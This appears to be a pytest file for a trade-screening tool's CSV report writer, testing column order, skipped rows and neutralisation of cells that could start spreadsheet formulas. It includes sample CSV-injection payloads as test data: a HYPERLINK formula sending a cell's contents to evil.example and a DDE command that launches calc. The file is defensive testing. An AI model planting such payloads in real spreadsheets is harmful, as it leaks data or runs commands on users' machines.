"""Tests for the `csv` report format: input rows in order, original columns first, no formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from screener.model import Assessment, Report, Skipped
from screener.report import RenderOptions
from screener.report.csv_format import (
    SCREENER_COLUMNS,
    VERDICTS_KEPT,
    LineWriter,
    neutralise,
    row_cells,
    skipped_cells,
    write_csv,
    write_header,
    write_row,
    write_skipped,
)

Golden = Callable[[str, str], None]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _render(report: Report) -> str:
    out = io.StringIO()
    write_csv(report, out, RenderOptions())
    return out.getvalue()


def _rows(report: Report) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_render(report))))


def test_matches_golden(report: Report, golden: Golden) -> None:
    golden("report.csv", _render(report))


def test_user_columns_come_first_then_ours(report: Report) -> None:
    header = next(csv.reader(io.StringIO(_render(report))))
    user = list(report.assessments[0].record.raw)
    assert header == [*user, *SCREENER_COLUMNS]


def test_every_input_row_once_skipped_rows_included(report: Report) -> None:
    rows = _rows(report)
    assert len(rows) == report.summary.rows_in
    skipped = [r for r in rows if r["screener_band"] == "skipped"]
    assert [r["screener_row"] for r in skipped] == [str(s.row) for s in report.skipped]
    assert report.skipped[0].reason in skipped[0]["screener_reasons"]
    assert skipped[0]["screener_score"] == ""


def test_verdict_columns(report: Report) -> None:
    row = _rows(report)[1]
    critical = report.assessments[1]
    assert row["screener_score"] == str(critical.score)
    assert row["screener_band"] == "critical"
    reasons = row["screener_reasons"].split(" | ")
    assert len(reasons) == len(critical.reasons)
    assert reasons[0].startswith("[+97] party ")
    assert row["screener_rules"].split(" | ") == [f.rule_id for f in critical.findings]
    assert "OFAC SDN" in row["screener_party_hits"]
    assert row["screener_goods"].startswith("line 1: ")


def test_no_cell_can_start_a_formula(report: Report) -> None:
    text = _render(report)
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("+-").replace(
        ".", "").replace(",", "").isdigit()]
    assert risky == []
    assert "'=HYPERLINK(" in text.replace('""', '"')
    assert "'@SUM(" in text
    assert "'-Evil Corp" in text


def test_plain_numbers_are_left_alone(report: Report) -> None:
    assert _rows(report)[0]["Amount"] == "-120.50"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-120.50", "-120.50"),
        ("+1,000", "+1,000"),
        ("+7 495 123 45 67", "'+7 495 123 45 67"),
        ("-", "'-"),
        ("Acme = good", "Acme = good"),
        ("", ""),
        ("ООО «Титан»", "ООО «Титан»"),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_skipped_rows_are_merged_back_into_input_order(report: Report) -> None:
    middle = Skipped(source="invoices.csv", row=3, reason="ragged row", raw={"Invoice No": "X"})
    clear, critical, scripts = report.assessments
    moved = replace(critical, record=replace(critical.record, row=6))
    rows = _rows(replace(report, assessments=(clear, scripts, moved),
                         skipped=(middle, *report.skipped)))
    assert [r["screener_row"] for r in rows] == ["2", "3", "4", "5", "6"]


def test_files_keep_input_order_and_headers_are_united(report: Report) -> None:
    clear, critical, _ = report.assessments
    other = replace(clear, record=replace(clear.record, source="b.csv", row=2,
                                          raw={"Invoice No": "B-1", "Vessel": "Sea Star"}))
    later = replace(critical, record=replace(critical.record, source="a.csv", row=9))
    rows = _rows(replace(report, inputs=("a.csv", "b.csv"), assessments=(other, later),
                         skipped=()))
    assert [(r["screener_source"], r["screener_row"]) for r in rows] == [("a.csv", "9"),
                                                                        ("b.csv", "2")]
    header = list(rows[0])
    assert header.index("Remarks") < header.index("Vessel") < header.index("screener_row")
    assert rows[0]["Vessel"] == ""
    assert rows[1]["Vessel"] == "Sea Star"


def test_an_input_column_named_like_ours_is_kept_under_a_suffix(report: Report) -> None:
    a = report.assessments[0]
    raw = {**a.record.raw, "screener_score": "old"}
    rows = _rows(replace(report, assessments=(replace(a, record=replace(a.record, raw=raw)),),
                         skipped=()))
    assert rows[0]["screener_score (input)"] == "old"
    assert rows[0]["screener_score"] == str(a.score)


def test_streaming_functions_write_what_the_report_writer_writes(report: Report) -> None:
    columns = tuple(report.assessments[0].record.raw)
    out = io.StringIO()
    write_header(out, columns)
    for a in report.assessments:
        write_row(out, columns, a)
    write_skipped(out, columns, report.skipped[0])
    assert out.getvalue() == _render(report)


def test_row_cells_are_the_cells_the_writers_write(report: Report) -> None:
    columns = tuple(report.assessments[1].record.raw)
    out = io.StringIO()
    for a in report.assessments:
        write_row(out, columns, a)
    for s in report.skipped:
        write_skipped(out, columns, s)
    expected = [*(row_cells(columns, a) for a in report.assessments),
                *(skipped_cells(columns, s) for s in report.skipped)]
    assert list(csv.reader(io.StringIO(out.getvalue()))) == expected


def test_without_columns_row_cells_are_ours_alone_and_neutralised(report: Report) -> None:
    critical = report.assessments[1]
    ours = row_cells((), critical)
    assert len(ours) == len(SCREENER_COLUMNS)
    cells = dict(zip(SCREENER_COLUMNS, ours, strict=True))
    assert cells["screener_row"] == str(critical.record.row)
    assert cells["screener_band"] == critical.band.value
    full = row_cells(tuple(critical.record.raw), critical)
    assert full[-len(SCREENER_COLUMNS):] == ours
    # An input name that opens like a formula must not leave the cell opening like one.
    assert all(neutralise(c) == c for c in ours)


def test_skipped_cells_without_columns(report: Report) -> None:
    skipped = report.skipped[0]
    cells = dict(zip(SCREENER_COLUMNS, skipped_cells((), skipped), strict=True))
    assert cells["screener_band"] == "skipped"
    assert cells["screener_score"] == ""
    assert skipped.reason in cells["screener_reasons"]
    assert cells["screener_row"] == str(skipped.row)


def _written(columns: tuple[str, ...], item: Assessment | Skipped) -> str:
    out = io.StringIO()
    if isinstance(item, Skipped):
        write_skipped(out, columns, item)
    else:
        write_row(out, columns, item)
    return out.getvalue()


def _with_raw(assessment: Assessment, raw: dict[str, Any]) -> Assessment:
    return replace(assessment, record=replace(assessment.record, raw=raw))


def test_line_writer_writes_the_lines_the_writers_write(report: Report) -> None:
    columns = tuple(report.assessments[1].record.raw)
    lines = LineWriter(columns)
    items: list[Assessment | Skipped] = [*report.assessments, *report.skipped]
    for _ in range(2):  # the second time, every verdict is one the writer kept
        for item in items:
            expected = _written(columns, item)
            if isinstance(item, Skipped):
                assert lines.skipped(item) == expected
            else:
                assert lines.row(item) == expected


@pytest.mark.parametrize(
    "cells",
    [
        ["plain", "text", "1.5"],  # nothing to quote or neutralise: the cells joined by commas
        ["Co., Ltd.", 'say "hi"', "two\nlines"],  # quoted
        ["ok", "=SUM(A1)", "ok"],  # neutralised, not first
        ["@user", "ok", "ok"],  # neutralised, first
        ["-120.50", "+1,000", "-"],  # signed numbers stay, a bare dash is neutralised
        ["a\x00=b", "x", "y"],  # a NUL before a formula sign inside a cell
        ["a\x00b", "x", "y"],  # a NUL alone
        ["carriage\rreturn", "\tlead", "x"],
        ["", "", ""],
        [FORMULA, "", "x"],
    ],
)
def test_line_writer_cells_as_the_writer_writes_them(report: Report, cells: list[str]) -> None:
    columns = ("A", "B", "C")
    for assessment in report.assessments:
        row = _with_raw(assessment, dict(zip(columns, cells, strict=True)))
        assert LineWriter(columns).row(row) == _written(columns, row)


def test_line_writer_rows_whose_columns_differ_from_the_reports(report: Report) -> None:
    assessment = report.assessments[1]
    cases: list[tuple[tuple[str, ...], dict[str, Any]]] = [
        (("A", "B"), {"B": "2", "A": "1"}),  # another order
        (("A", "B", "C"), {"A": "1", "C": "3"}),  # a column the row lacks
        (("A",), {"A": "1", "Z": "extra"}),  # a cell of no report column
        (("A",), {"A": ""}),  # one empty cell: csv.writer alone would write '""'
        ((), {"A": "1"}),  # no user columns (screener.spark)
        ((), {}),
        (("A", "B"), {"A": 7, "B": None}),  # not text: written as the writers write str()
    ]
    for columns, raw in cases:
        row = _with_raw(assessment, raw)
        assert LineWriter(columns).row(row) == _written(columns, row), (columns, raw)


def test_line_writer_keeps_its_verdicts_bounded(report: Report) -> None:
    columns = tuple(report.assessments[1].record.raw)
    lines = LineWriter(columns)
    critical = report.assessments[1]
    reason = critical.reasons[0]
    # Each row's own Reason object is a verdict of its own; the oldest go first.
    rows = [
        replace(critical, reasons=(replace(reason, points=i),))
        for i in range(VERDICTS_KEPT + 10)
    ]
    for row in rows:
        assert lines.row(row) == _written(columns, row)
    assert len(lines._verdicts) == VERDICTS_KEPT
    assert lines.row(rows[0]) == _written(columns, rows[0])  # written again once dropped
